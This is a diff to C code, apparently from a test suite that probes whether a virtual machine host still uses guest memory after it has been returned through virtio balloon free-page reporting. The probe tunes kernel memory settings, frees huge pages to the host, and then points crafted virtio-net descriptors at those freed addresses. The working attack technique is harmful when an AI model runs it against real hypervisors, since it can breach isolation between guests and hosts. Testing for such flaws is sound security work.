@@ -153,21 +153,32 @@ out:
 
 /* ---- memory given back to the host ---- */
 
-#define GIVEN	2u	/* huge pages */
+#define GIVEN	4u	/* huge pages */
 #define HUGE	0x200000u
 
-static int huge_pages(int change)
+#define POOL	"/proc/sys/vm/nr_hugepages"
+/*
+ * Free pages of this order and up are reported, as long as there are 32 such more than the kernel wants
+ * to have free itself: as they are usually, these numbers are too high for a small VM.
+ */
+#define KEPT	"/proc/sys/vm/min_free_kbytes"
+#define ORDER	"/sys/module/page_reporting/parameters/page_reporting_order"
+
+static bool set_number(const char *path, int n)
 {
-	FILE *f = fopen("/proc/sys/vm/nr_hugepages", "r+e");
-	int n = 0;
+	FILE *f = fopen(path, "we");
+	bool ok = f && fprintf(f, "%d\n", n) > 0;
+
+	return f && !fclose(f) && ok;
+}
+
+static int get_number(const char *path)
+{
+	FILE *f = fopen(path, "re");
+	int n;
 
 	if (!f || fscanf(f, "%d", &n) != 1)
 		n = -1;
-	if (n >= 0 && change) {
-		rewind(f);
-		if (fprintf(f, "%d\n", n + change) < 0 || fflush(f))
-			n = -1;
-	}
 	if (f)
 		fclose(f);
 	return n;
@@ -194,25 +205,31 @@ static int physical(uint64_t gpa)
 	return found;
 }
 
-/* Gives huge pages that were ours to the balloon; `gpa`: which. NULL, or why it could not. */
-static const char *give_back(struct user *u, uint64_t gpa[GIVEN])
+/* Gives huge pages that were ours to the balloon; `gpa`: one that the host took. NULL, or why not. */
+static const char *give_back(struct user *u, uint64_t *gpa)
 {
 	struct elisa_mem *mem;
+	uint64_t given[GIVEN];
 
-	if (access("/sys/bus/virtio/drivers/virtio_balloon", F_OK))
-		return "no balloon driver: modprobe virtio_balloon";
+	if (system("modprobe -q virtio_balloon") || !set_number(ORDER, 5))
+		return "no balloon driver";
+	set_number(KEPT, 512);
 	if (elisa_mem_alloc(u->guest, "attack-spare", GIVEN * HUGE, &mem))
 		return "no huge pages left";
-	memcpy(gpa, mem->gpa, GIVEN * sizeof(*gpa));
+	memcpy(given, mem->gpa, sizeof(given));
 	memset(mem->addr, 0x5a, GIVEN * HUGE);
 	elisa_mem_free(u->guest, mem);
 	/* What was freed last is let go first. */
-	if (huge_pages(-(int)GIVEN) < 0)
+	if (!set_number(POOL, get_number(POOL) - (int)GIVEN))
 		return "vm.nr_hugepages cannot be changed";
-	/* The kernel waits two seconds before it reports free pages. */
-	for (double end = user_seconds() + 10; user_seconds() < end; usleep(100000))
-		if (!physical(gpa[0] + 64) && !physical(gpa[1] + HUGE - 64))
-			return NULL;
+	/* The kernel waits two seconds before it reports free pages, and keeps some for itself. */
+	for (double end = user_seconds() + 10; user_seconds() < end; usleep(100000)) {
+		for (unsigned int i = 0; i < GIVEN; i++) {
+			*gpa = given[i];
+			if (!physical(*gpa + 64) && !physical(*gpa + HUGE - 64))
+				return NULL;
+		}
+	}
 	return "free pages were not taken: QEMU's balloon wants free-page-reporting=on";
 }
 
@@ -237,30 +254,31 @@ static void look(const uint8_t *data, uint32_t len, void *arg)
 static int memory_given_back(struct attack_run *run)
 {
 	struct contents c = { 0 };
-	uint64_t gpa[GIVEN];
 	const char *wrong;
+	uint64_t gpa;
 	struct user u;
 	int rc = user_open(&u, "attack");
 
 	if (rc)
 		return rc;
-	wrong = give_back(&u, gpa);
+	wrong = give_back(&u, &gpa);
 	if (wrong) {
 		attack_is(run, ATTACK_ABSENT, 0, "%s", wrong);
 		goto out;
 	}
+	user_take(&u, 1, NULL, NULL);
 	for (uint32_t i = 0; i < 4096; i += 64) {
 		/* The header is ours, what follows lies there. */
 		for (uint32_t k = 0; k < 64; k += 2) {
 			user_put(&u, 0, k, user_frame(&u, k, u.q[1].mac, u.q[0].mac), 14,
 				 ELISA_NET_MORE);
-			user_put(&u, 0, k + 1, gpa[0] + (i + k) % 512 * 4096, LEN - 14, 0);
+			user_put(&u, 0, k + 1, gpa + (i + k) % 512 * 4096, LEN - 14, 0);
 		}
 		user_send(&u, 0, 64);
 		user_take(&u, 1, look, &c);
 	}
 	for (uint32_t i = 0; i < USER_RING; i++)
-		u.q[1].rx->addr[i] = gpa[1] + i * 8192;
+		u.q[1].rx->addr[i] = gpa + i * 8192;
 	for (uint32_t i = 0; i < USER_RING; i += 64) {
 		for (uint32_t k = 0; k < 64; k++)
 			user_put(&u, 0, k, user_frame(&u, k, u.q[1].mac, u.q[0].mac), LEN, 0);
